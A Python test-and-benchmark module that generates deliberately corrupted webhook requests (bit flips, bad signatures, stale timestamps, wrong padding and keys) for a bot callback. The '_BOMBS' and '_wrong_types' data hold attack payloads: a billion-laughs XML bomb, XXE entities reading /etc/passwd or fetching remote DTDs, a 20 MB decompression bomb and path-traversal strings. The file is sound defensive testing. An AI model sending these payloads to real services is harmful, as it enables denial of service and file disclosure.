"""Requests to the callback that are spoilt on purpose: for the tests and the benchmark.

Each says what must become of it: `refused` (status 4xx and no reply) or merely `survived` (no 5xx).
"""

from __future__ import annotations

import base64
import json
import random
import time
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field, replace
from enum import StrEnum

from bot.simulator.account import Account, Mode
from bot.simulator.envelope import sealed, to_xml
from bot.simulator.forging import Forger

_STALE_S = 3600


class Must(StrEnum):
    REFUSED = "refused"
    SURVIVED = "survived"


@dataclass(frozen=True, slots=True)
class Spoilt:
    """One request. `how` names the damage."""

    how: str
    must: Must
    query: Mapping[str, str]
    body: bytes
    method: str = "POST"
    headers: Mapping[str, str] = field(default_factory=dict)


class Spoiler:
    """Makes spoilt requests of one account, the same ones for the same seed (but for the time in them)."""

    def __init__(self, account: Account, seed: int) -> None:
        self._account = account
        self._random = random.Random(seed)
        self._forger = Forger(account, self._random)
        self._ways: tuple[Callable[[], Spoilt], ...] = (
            self._flipped_body,
            self._flipped_query,
            self._cut_body,
            self._stale,
            self._query_lacks,
            self._wrong_signature,
            self._foreign_token,
            self._unsigned,
            self._bomb,
            self._huge,
            self._wrong_types,
            self._garbage,
            self._lying_encoding,
            self._other_method,
            self._nested,
        )
        if account.mode is not Mode.PLAIN:
            self._ways += (
                self._cut_cipher,
                self._wrong_padding,
                self._wrong_app,
                self._wrong_length,
                self._wrong_key,
                self._signed_bomb,
                self._signature_for_msg_signature,
            )
        if account.mode is Mode.SAFE:
            self._ways += (self._downgraded,)

    def one(self) -> Spoilt:
        """The next one."""
        return self._random.choice(self._ways)()

    def good(self) -> Spoilt:
        """A request with nothing wrong."""
        query, body = self._forger.sealed(self._forger.message())
        return Spoilt("good", Must.SURVIVED, query, body)

    # -- what is spoilt ------------------------------------------------------

    def _flipped_body(self) -> Spoilt:
        query, body = self._forger.sealed(self._forger.message())
        spoilt = bytearray(body)
        for _ in range(self._random.randint(1, 8)):
            spoilt[self._random.randrange(len(spoilt))] ^= 1 << self._random.randrange(8)
        return Spoilt("bits of the body flipped", Must.SURVIVED, query, bytes(spoilt))

    def _flipped_query(self) -> Spoilt:
        query, body = self._forger.sealed(self._forger.message())
        names = ["signature"] if self._account.mode is Mode.PLAIN else ["msg_signature"]
        name = self._random.choice([*names, "timestamp", "nonce"])
        at = self._random.randrange(len(query[name]))
        other = self._random.choice([one for one in "0123456789abcdef" if one != query[name][at]])
        value = query[name][:at] + other + query[name][at + 1 :]
        return Spoilt(f"{name} changed", Must.REFUSED, {**query, name: value}, body)

    def _cut_body(self) -> Spoilt:
        query, body = self._forger.sealed(self._forger.message())
        return Spoilt("body cut", Must.REFUSED, query, body[: self._random.randrange(len(body) - 6)])

    def _stale(self) -> Spoilt:
        at = int(time.time()) + self._random.choice((-1, 1)) * (_STALE_S + self._random.randrange(10**6))
        _, body = self._forger.sealed(self._forger.message())
        if self._account.mode is Mode.PLAIN:
            return Spoilt("old or future timestamp", Must.REFUSED, self._forger.signed_query(at=at), body)
        encrypted = self._forger.encrypt(to_xml(self._forger.message()).encode())
        return self._wrapped("old or future timestamp", Must.REFUSED, encrypted, at=at)

    def _query_lacks(self) -> Spoilt:
        query, body = self._forger.sealed(self._forger.message())
        needed = "signature" if self._account.mode is Mode.PLAIN else "msg_signature"
        name = self._random.choice([needed, "timestamp", "nonce"])
        del query[name]
        return Spoilt(f"no {name}", Must.REFUSED, query, body)

    def _wrong_signature(self) -> Spoilt:
        query, body = self._forger.sealed(self._forger.message())
        name = "signature" if self._account.mode is Mode.PLAIN else "msg_signature"
        value = self._random.choice(("", "0" * 40, "é" * 40, "a" * 5000))
        return Spoilt("wrong signature", Must.REFUSED, {**query, name: value}, body)

    def _foreign_token(self) -> Spoilt:
        posted = sealed(replace(self._account, token="another"), "o1", self._forger.message())
        return Spoilt("signed with another token", Must.REFUSED, dict(posted.query), posted.body.encode())

    def _unsigned(self) -> Spoilt:
        _, body = self._forger.sealed(self._forger.message())
        return Spoilt("no query at all", Must.REFUSED, {}, body)

    def _bomb(self) -> Spoilt:
        bomb = self._random.choice(_BOMBS)
        if self._account.mode is Mode.SAFE:
            return Spoilt("XML bomb", Must.REFUSED, self._forger.signed_query("x"), bomb)
        return Spoilt("XML bomb", Must.REFUSED, self._forger.signed_query(), bomb)

    def _huge(self) -> Spoilt:
        size = self._random.choice((3_000, 20_000, 60_000, 200_000, 2_000_000))
        name = self._random.choice(
            ("Content", "FromUserName", "MsgId", "Event", "EventKey", "Label", "MsgType")
        )
        query, body = self._forger.sealed({**self._forger.message(), name: "长" * (size // 3)})
        must = Must.REFUSED if size > 150_000 else Must.SURVIVED
        return Spoilt("huge field", must, query, body)

    def _wrong_types(self) -> Spoilt:
        message = dict(self._forger.message())
        name = self._random.choice([*message])
        strange = self._random.choice(
            (
                "",
                " ",
                "-1",
                "1e999",
                "٣",
                "nul\ufffdl",
                "9" * 30,
                "<b/>",
                "]]>",
                "../../etc/passwd",
                "'--",
                "%s",
            )
        )
        if self._random.random() < 0.3:
            del message[name]
        else:
            message[name] = strange
        message.setdefault("FromUserName", "o1")
        query, body = self._forger.sealed(message)
        return Spoilt(f"strange {name}", Must.SURVIVED, query, body)

    def _nested(self) -> Spoilt:
        message = dict(self._forger.message())
        name = self._random.choice([*message])
        depth = self._random.choice((1, 3, 400))
        xml = to_xml({**message, "X": 1}).replace("<X>1</X>", "<a>" * depth + "</a>" * depth)
        xml = xml.replace(f"<{name}>", f"<{name}><i>1</i>", 1).replace("</xml>", f"<{name}>2</{name}></xml>")
        return self._any_xml("nested or repeated elements", Must.SURVIVED, xml.encode())

    def _garbage(self) -> Spoilt:
        body = self._random.choice(
            (
                b"",
                b"<xml>",
                b"<xml></xml>",
                b"<xml/>",
                b"null",
                b"[]",
                json.dumps({"MsgType": "text"}).encode(),
                "<xml><MsgType>text</MsgType></xml>".encode("utf-16"),
                b"<xml><Content>\xff\xfe</Content></xml>",
                b"<xml><Content>\x00</Content></xml>",
                b"<html><xml/></html>",
                b'<?xml version="1.0" encoding="no-such"?><xml><MsgType>text</MsgType></xml>',
                self._random.randbytes(self._random.randrange(1, 3000)),
            )
        )
        if self._account.mode is not Mode.PLAIN and self._random.random() < 0.7:
            return self._any_xml("garbage under a right signature", Must.SURVIVED, body)
        must = Must.REFUSED if self._account.mode is Mode.SAFE else Must.SURVIVED
        return Spoilt("garbage", must, self._forger.signed_query(), body)

    def _lying_encoding(self) -> Spoilt:
        query, body = self._forger.sealed(self._forger.message())
        name = self._random.choice(("gzip", "deflate", "br", "zstd", "nonsense"))
        if name == "deflate" and self._random.random() < 0.5:
            return Spoilt(
                "compressed bomb", Must.REFUSED, query, _DEFLATED, "POST", {"Content-Encoding": name}
            )
        return Spoilt("lying encoding", Must.SURVIVED, query, body, "POST", {"Content-Encoding": name})

    def _other_method(self) -> Spoilt:
        query, body = self._forger.sealed(self._forger.message())
        method = self._random.choice(("GET", "PUT", "DELETE", "PATCH", "OPTIONS"))
        if method == "GET":
            query = {**query, "signature": "0" * 40, "echostr": "<script>1</script>"}
        return Spoilt(f"method {method}", Must.REFUSED, query, b"" if method == "GET" else body, method)

    # -- encrypted and rightly signed, but wrong inside ----------------------------

    def _cut_cipher(self) -> Spoilt:
        raw = base64.b64decode(self._forger.encrypt(to_xml(self._forger.message()).encode()))
        cut = raw[: self._random.randrange(len(raw))]
        text = base64.b64encode(cut).decode()
        if self._random.random() < 0.3:
            text = text[:-1] or "!"
        return self._wrapped("cipher text cut", Must.REFUSED, text)

    def _wrong_padding(self) -> Spoilt:
        plain = self._forger.plain(to_xml(self._forger.message()).encode())
        count = 32 - len(plain) % 32
        pad = self._random.choice((0, 33, 200, 255, (count % 32) + 1))
        tail = bytes([pad]) * count
        if self._random.random() < 0.4 and count > 1:
            tail = bytes([count ^ 1]) * (count - 1) + bytes([count])
        return self._wrapped("wrong padding", Must.REFUSED, self._forger.cipher(plain + tail))

    def _wrong_app(self) -> Spoilt:
        app_id = self._random.choice(("", "wx0000000000000000", self._account.app_id[:-1], "é", "x" * 3000))
        encrypted = self._forger.encrypt(to_xml(self._forger.message()).encode(), app_id=app_id)
        return self._wrapped("another AppID", Must.REFUSED, encrypted)

    def _wrong_length(self) -> Spoilt:
        xml = to_xml(self._forger.message()).encode()
        length = self._random.choice((0, 1, len(xml) - 1, len(xml) + 1, len(xml) + 18, 2**31, 2**32 - 1))
        return self._wrapped("lying length", Must.REFUSED, self._forger.encrypt(xml, length=length))

    def _wrong_key(self) -> Spoilt:
        encrypted = self._forger.encrypt(
            to_xml(self._forger.message()).encode(), key=self._random.randbytes(32)
        )
        return self._wrapped("another key", Must.REFUSED, encrypted)

    def _signed_bomb(self) -> Spoilt:
        encrypted = self._forger.encrypt(self._random.choice(_BOMBS))
        return self._wrapped("XML bomb, encrypted", Must.REFUSED, encrypted)

    def _signature_for_msg_signature(self) -> Spoilt:
        query, body = self._forger.sealed(self._forger.message())
        query["msg_signature"] = query["signature"]
        return Spoilt("signature used as msg_signature", Must.REFUSED, query, body)

    def _downgraded(self) -> Spoilt:
        body = to_xml(self._forger.message()).encode()
        return Spoilt("plain body in safe mode", Must.REFUSED, self._forger.signed_query(), body)

    def _any_xml(self, how: str, must: Must, xml: bytes) -> Spoilt:
        if self._account.mode is Mode.PLAIN:
            return Spoilt(how, must, self._forger.signed_query(), xml)
        return self._wrapped(how, must, self._forger.encrypt(xml))

    def _wrapped(self, how: str, must: Must, encrypted: str, *, at: int = 0) -> Spoilt:
        body = to_xml({"ToUserName": self._account.original_id, "Encrypt": encrypted}).encode()
        return Spoilt(how, must, self._forger.signed_query(encrypted, at=at), body)


def _laughs() -> bytes:
    lines = ['<!ENTITY a0 "ha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    return (
        f"<!DOCTYPE xml [{''.join(lines)}]><xml><MsgType>text</MsgType><Content>&a9;</Content></xml>".encode()
    )


_BOMBS = (
    _laughs(),
    b'<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><Content>&x;</Content></xml>',
    b'<!DOCTYPE xml SYSTEM "http://192.0.2.1/x.dtd"><xml><MsgType>text</MsgType></xml>',
    b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]><xml/>',
    b"<!DOCTYPE xml><xml><MsgType>text</MsgType></xml>",
    b"<xml>" + b"<a>" * 15_000 + b"</a>" * 15_000,
)
_DEFLATED = zlib.compress(bytes(20_000_000))
